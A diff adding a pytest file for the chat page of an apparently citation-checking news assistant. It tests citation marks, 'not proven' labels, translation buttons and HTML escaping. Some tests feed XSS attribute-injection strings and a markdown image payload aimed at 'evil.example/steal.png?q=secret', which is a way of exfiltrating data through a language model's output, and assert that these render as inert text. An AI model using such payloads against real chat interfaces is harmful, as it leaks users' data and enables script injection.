@@ -1,0 +1,282 @@
+"""What the chat shows: everything as text, marks as the only links."""
+
+from __future__ import annotations
+
+import html
+import re
+from dataclasses import replace
+
+import pytest
+from ui_answers import (
+    EVIL,
+    HOSTILE,
+    MERZ,
+    QUOTES,
+    TARIFF,
+    TARIFF_QUOTES,
+    answer_of,
+    german_answer,
+    hostile_answer,
+    merz_answer,
+    missing_answer,
+    moon_answer,
+    quotes_answer,
+    tariff_answer,
+    unproven_answer,
+)
+
+from assistant.answer import Found
+from ui.page.chat import ChatTurn, Draft
+from ui.page.rendering.articles import LISTED, library_html
+from ui.page.rendering.cards import article_link, checksum
+from ui.page.rendering.messages import message_html, messages, question_html, welcome
+from vectorstore.article import Article
+
+TAG = re.compile(r"<(\w+)([^>]*)>")
+
+
+def shown(answer, language="en", **options) -> str:
+    return message_html(ChatTurn(answer.question, "answered", answer), language, **options)
+
+
+def tags(markup: str) -> set[str]:
+    return {name for name, _ in TAG.findall(markup)}
+
+
+def links(markup: str) -> list[str]:
+    return [html.unescape(href) for href in re.findall(r'href="([^"]*)"', markup)]
+
+
+def test_marks_point_at_the_quote_of_their_number():
+    markup = shown(merz_answer("?"))
+    marks = re.findall(r'<a class="mark" href="([^"]*)".*?</span>(\d+)</a>', markup)
+    for (href, number), quote in zip(marks, QUOTES, strict=True):
+        assert int(number) == quote.number
+        place = f"#article=merz&start={quote.start}&end={quote.end}"
+        assert html.unescape(href) == f"{place}&check={checksum(quote.quote)}"
+
+
+def test_a_number_without_a_quote_makes_no_mark():
+    markup = shown(answer_of("?", (("One.", (1, 9), None),), citations=QUOTES[:1]))
+    assert markup.count('class="mark"') == 1
+
+
+def test_an_unsupported_sentence_is_marked_with_its_reason():
+    markup = shown(merz_answer("?"))
+    assert '<span class="unproven">He also wants' in markup
+    assert "No quote says this." in markup
+    assert markup.count('class="unproven"') == 1
+
+
+def test_the_reason_is_in_the_marks_own_words_and_in_the_answers_language():
+    markup = shown(german_answer("?"), "en")
+    why = "Das Zitat, das am nächsten kommt, nennt keine 30 Prozent."
+    assert f'<span class="unseen">Not proven: <span lang="de">{why}</span></span>' in markup
+    assert f'<span class="why" lang="de">{why}</span>' in markup
+
+
+def test_a_missing_reason_is_given_in_the_pages_language():
+    answer = german_answer("?")
+    bare = replace(answer.sentences[1], reason=None)
+    markup = shown(replace(answer, sentences=(bare,)), "en")
+    assert '<span class="why" lang="en">No quote proves this sentence.</span>' in markup
+
+
+def test_the_question_mark_is_explained_only_where_there_is_one():
+    assert "</span> = not proven by the articles</p>" in shown(merz_answer("?"))
+    assert "</span> = nicht durch die Artikel belegt</p>" in shown(merz_answer("?"), "de")
+    assert 'class="legend"' not in shown(tariff_answer("?"))
+    assert 'class="legend"' not in shown(quotes_answer("?"))
+
+
+def test_a_sentence_without_quotes_counts_as_unproven_even_without_a_reason():
+    answer = merz_answer("?")
+    bare = replace(answer.sentences[0], citations=())
+    markup = shown(replace(answer, sentences=(bare,)), "de")
+    assert "Kein Zitat belegt diesen Satz." in markup
+
+
+def test_text_between_and_after_sentences_is_kept():
+    answer = answer_of("?", (("One.", (1,), None), ("Two.", (2,), None)))
+    answer = replace(answer, text=answer.text + "\n\nAnd a tail")
+    assert "And a tail" in shown(answer)
+
+
+@pytest.mark.parametrize("language", ["de", "en"])
+def test_hostile_texts_become_no_markup(language):
+    for answer in (hostile_answer("?"), replace(hostile_answer("?"), kind="quotes")):
+        markup = shown(answer, language)
+        assert tags(markup) <= {
+            "div",
+            "p",
+            "span",
+            "a",
+            "ol",
+            "li",
+            "details",
+            "summary",
+            "button",
+            "strong",
+        }
+        assert all(link.startswith("#article=evil&") for link in links(markup))
+        assert html.escape(HOSTILE) in markup
+
+
+def test_attributes_hold_nothing_but_their_own_value():
+    odd = replace(EVIL, id='x" onclick="alert(1)', title='a" onmouseover="b')
+    citation = replace(QUOTES[0], article=odd)
+    answer = replace(merz_answer("?"), citations=(citation,), language='en" onload="x')
+    names = {
+        name
+        for _, attributes in TAG.findall(shown(answer))
+        for name in re.findall(r'(\w+)="', re.sub(r'"[^"]*"', '""', attributes))
+    }
+    assert names <= {"class", "href", "title", "lang", "type", "name"}
+
+
+def test_an_image_of_the_model_stays_text():
+    markup = shown(hostile_answer("?"))
+    assert "<img" not in markup
+    assert "![x](http://evil.example/steal.png?q=secret)" in markup
+
+
+def test_a_draft_shows_quotes_without_numbers_before_any_text():
+    answer = merz_answer("?")
+    found = Found("?", "en", (), answer.citations)
+    markup = message_html(Draft("?", found), "en")
+    assert markup.count('class="quote"') == 3
+    assert 'class="number"' not in markup
+    assert "The answer is being written" in markup
+
+
+def test_more_than_four_quotes_are_folded():
+    markup = shown(tariff_answer("?"))
+    assert "Show 2 more quotes" in markup
+    before, after = markup.split("<details", 1)
+    assert (before.count('class="quote"'), after.count('class="quote"')) == (4, 2)
+    assert "<details class=" not in shown(replace(tariff_answer("?"), citations=TARIFF_QUOTES[:4]))
+
+
+def test_quotes_alone_are_named_as_quotes_in_both_languages():
+    assert "Die besten Zitate, wörtlich:" in shown(quotes_answer("?"), "de")
+    assert "The best quotes, verbatim:" in shown(quotes_answer("?"), "en")
+
+
+def test_quotes_say_first_why_nothing_is_written():
+    markup = shown(unproven_answer("?"))
+    assert markup.index("Nothing of the answer") < markup.index("The best quotes, verbatim:")
+    assert markup.count('class="number"') == 3
+
+
+def test_nothing_found_shows_what_is_nearest():
+    markup = shown(missing_answer("?"))
+    assert "What comes nearest in your articles" in markup
+    assert html.escape(TARIFF.title) in markup
+    assert 'class="mark"' not in markup
+    assert "Searched:" not in markup
+
+
+def test_the_nearest_quotes_take_the_place_of_passages_and_have_no_numbers():
+    answer = replace(moon_answer("?"), nearest=(QUOTES[1],))
+    markup = shown(answer)
+    assert markup.count('class="quote"') == 1
+    assert "„Zunächst müsse es einen Waffenstillstand geben.“" in markup
+    assert "13 August 2025" in markup
+    assert 'class="number"' not in markup
+
+
+def test_nothing_found_says_what_was_searched():
+    assert "Searched: 214 articles from 3 March 2014 to 12 May 2025" in shown(moon_answer("?"))
+    german = shown(moon_answer("?"), "de")
+    assert "Durchsucht: 214 Artikel vom 3. März 2014 bis zum 12. Mai 2025" in german
+
+
+def translations(markup: str) -> list[str]:
+    return re.findall(r'name="translate:(\w+)"', markup)
+
+
+def test_only_quotes_in_another_language_than_the_answers_can_be_translated():
+    assert translations(shown(merz_answer("?"))) == ["en"] * 3
+    assert translations(shown(german_answer("?"), "en")) == ["de"]
+    assert translations(shown(quotes_answer("?"), "en")) == []
+    assert translations(shown(moon_answer("?"))) == ["en"]
+
+
+def test_a_translation_is_named_by_its_languages():
+    assert 'title="German → English, by the language model"' in shown(merz_answer("?"))
+    assert 'title="Englisch → Deutsch, durch das Sprachmodell"' in shown(german_answer("?"), "de")
+
+
+def test_what_no_model_could_translate_has_no_button():
+    odd = replace(QUOTES[0], article=replace(MERZ, language='xx" onclick="alert(1)'))
+    long = replace(QUOTES[1], quote="Wort " * 400)
+    assert translations(shown(replace(merz_answer("?"), citations=(odd, long)))) == []
+    assert translations(shown(replace(merz_answer("?"), language="tlh"))) == []
+
+
+def test_quotes_of_a_draft_cannot_be_translated():
+    found = Found("?", "en", (), QUOTES)
+    assert translations(message_html(Draft("?", found), "en")) == []
+
+
+def test_what_is_not_checked_says_so():
+    found = Found("?", "en", (), QUOTES)
+    draft = Draft("?", found, "Merz demanded")
+    assert "Being written, not checked yet" in message_html(draft, "en")
+    assert "Wird geschrieben, noch nicht geprüft" in message_html(draft, "de")
+    assert "What was written until then is not checked." in message_html(draft.stopped(), "en")
+    assert "not checked" not in message_html(Draft("?").stopped(), "en")
+
+
+def test_only_the_last_answer_can_be_asked_again():
+    turns = [ChatTurn("?", "answered", merz_answer("?"))] * 2
+    first, last = (m["content"] for m in messages(turns, "en") if m["role"] == "assistant")
+    assert 'name="again"' not in first
+    assert 'name="again"' in last
+
+
+def test_a_question_is_shown_as_typed():
+    assert question_html("<b>1 & 2</b>") == (
+        '<div class="question">&lt;b&gt;1 &amp; 2&lt;/b&gt;</div>'
+    )
+
+
+def test_an_article_id_is_quoted_in_its_link():
+    assert article_link("a&b #1", 2, 3) == (
+        "#article=a%26b+%231&amp;start=2&amp;end=3&amp;check=2166136261"
+    )
+
+
+def test_bold_is_the_only_markdown_and_is_escaped_first():
+    markup = shown(answer_of("?", (("A **bold <b>word</b>** here.", (1,), None),)))
+    assert "<strong>bold &lt;b&gt;word&lt;/b&gt;</strong>" in markup
+
+
+def test_the_list_of_articles_is_capped_and_says_so():
+    many = [replace(MERZ, id=str(n)) for n in range(LISTED + 3)]
+    markup = library_html(many, "", "en")
+    assert markup.count("<li>") == LISTED
+    assert "and 3 more" in markup
+
+
+def test_the_filter_looks_at_title_source_date_and_language():
+    found = [
+        library_html([MERZ, TARIFF], needle, "en")
+        for needle in ("merz FRIEDEN", "tagesblatt", "2025-08-13")
+    ]
+    assert all("Bedingungen" in markup and "tariff" not in markup for markup in found)
+    assert "No article matches." in library_html([MERZ], "zebra", "en")
+
+
+def test_an_empty_index_says_how_to_add_articles():
+    assert "beleg serve" in welcome("de", 0)
+    assert "beleg serve" not in welcome("de", 1)
+
+
+def test_articles_that_are_nearly_the_same_say_so_in_the_list():
+    names = ["a", "b", "c", "d"]
+    articles = [Article(name, f"Title {name}", "Text.", "en", f"/{name}") for name in names]
+    listed = library_html(articles, "", "en", [["a", "b", "c"]])
+    assert listed.count("2 other articles are nearly the same.") == 3
+    assert "Ein anderer Artikel ist fast gleich." in library_html(articles, "", "de", [["a", "d"]])
+    assert "nearly the same" not in library_html(articles, "", "en")
